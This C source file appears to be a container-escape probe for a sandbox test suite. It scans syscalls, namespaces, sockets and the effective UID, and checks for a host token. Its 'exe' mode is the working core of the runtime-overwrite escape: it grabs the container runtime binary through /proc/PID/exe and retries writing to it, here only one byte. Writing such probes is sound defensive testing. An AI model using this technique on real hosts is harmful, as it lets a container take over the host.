// What an attacker in a container tries. Static, one program for all of it:
//     probe exe OUT         takes hold of the runtime's program and writes to it when nobody runs it
//     probe syscalls        what becomes of each system call, 0 to 600, with arguments that do no harm
//     probe namespaces      new namespaces by every call there is
//     probe sockets         families that lead to the kernel
//     probe id              who it is
//     probe token           tells when it has what only the host's processes have
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

static void tell(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CREAT | O_APPEND, 0666);
    if (fd >= 0) {
        write(fd, text, strlen(text));
        close(fd);
    }
}

// The runtime's program is larger than anything in the container.
static int catch_runtime(void) {
    for (;;) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            char path[300];
            struct stat stat;
            int pid = atoi(entry->d_name), fd;
            if (pid <= 0 || pid == getpid()) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            if ((fd = open(path, O_RDONLY)) < 0) continue;
            if (fstat(fd, &stat) == 0 && stat.st_size > 4 << 20) return fd;
            close(fd);
        }
        closedir(proc);
    }
}

static int exe(const char *out) {
    char path[100], text[100];
    int runtime = catch_runtime();
    tell(out, "caught\n");
    snprintf(path, sizeof path, "/proc/self/fd/%d", runtime);
    for (;;) {
        int fd = open(path, O_WRONLY | O_APPEND);
        if (fd >= 0) {
            int written = write(fd, "x", 1);
            tell(out, written == 1 ? "written\n" : "not written\n");
            return 0;
        }
        if (errno != ETXTBSY) {
            snprintf(text, sizeof text, "refused %s\n", strerror(errno));
            tell(out, text);
            for (;;) pause();
        }
        usleep(1000);
    }
}

// 0 for what passed the filter, else the errno of what the filter or the kernel says.
static const char *try_call(int number) {
    int *answer = mmap(0, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    *answer = 0;
    pid_t child = fork();
    if (child == 0) {
        struct itimerval soon = {.it_value = {.tv_usec = 200000}};
        setsid();
        close(0);
        close(1);
        close(2);
        signal(SIGALRM, SIG_DFL);
        setitimer(ITIMER_REAL, &soon, 0);
        errno = 0;
        long bad = -1;
        if (syscall(number, bad, bad, bad, bad, bad, bad) == -1) *answer = errno;
        syscall(SYS_exit_group, 0);
    }
    waitpid(child, 0, 0);
    int seen = *answer;
    munmap(answer, 4096);
    return seen == EPERM ? "EPERM" : seen == ENOSYS ? "ENOSYS" : "-";
}

static int syscalls(void) {
    for (int number = 0; number <= 600; number++) {
        printf("%d %s\n", number, try_call(number));
        fflush(stdout);
    }
    return 0;
}

static void show(const char *what, long result) {
    printf("%s %s\n", what, result == -1 ? strerrorname_np(errno) : "done");
    fflush(stdout);
}

static const struct {
    const char *name;
    int flag;
} KINDS[] = {{"mnt", CLONE_NEWNS},     {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC},
             {"user", CLONE_NEWUSER},  {"pid", CLONE_NEWPID}, {"net", CLONE_NEWNET},
             {"cgroup", CLONE_NEWCGROUP}};

static int namespaces(void) {
    char text[100];
    for (int i = 0; i < 7; i++) {
        snprintf(text, sizeof text, "unshare %s", KINDS[i].name);
        if (fork() == 0) {
            show(text, unshare(KINDS[i].flag));
            _exit(0);
        }
        wait(0);
        snprintf(text, sizeof text, "clone %s", KINDS[i].name);
        long child = syscall(SYS_clone, KINDS[i].flag | SIGCHLD, 0, 0, 0, 0);
        if (child == 0) _exit(0);
        show(text, child);
        wait(0);
        snprintf(text, sizeof text, "/proc/1/ns/%s", KINDS[i].name);
        int fd = open(text, O_RDONLY);
        snprintf(text, sizeof text, "setns %s", KINDS[i].name);
        show(text, setns(fd, 0));
    }
    long nothing[11] = {CLONE_NEWUSER};
    show("clone3 user", syscall(SYS_clone3, nothing, sizeof nothing));
    return 0;
}

static int sockets(void) {
    show("alg", socket(AF_ALG, SOCK_SEQPACKET, 0));
    show("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
    show("packet", socket(AF_PACKET, SOCK_RAW, 0));
    show("audit", socket(AF_NETLINK, SOCK_RAW, 9));
    return 0;
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (getenv("HOST_TOKEN")) {
        tell("/run/caught", "a program of the container ran as one of the host\n");
        tell("/caught", "a program of the container got what is the host's\n");
    }
    if (!strcmp(what, "exe")) return exe(argv[2]);
    if (!strcmp(what, "syscalls")) return syscalls();
    if (!strcmp(what, "namespaces")) return namespaces();
    if (!strcmp(what, "sockets")) return sockets();
    if (!strcmp(what, "id")) return printf("%d\n", geteuid()) < 0;
    return 0;
}
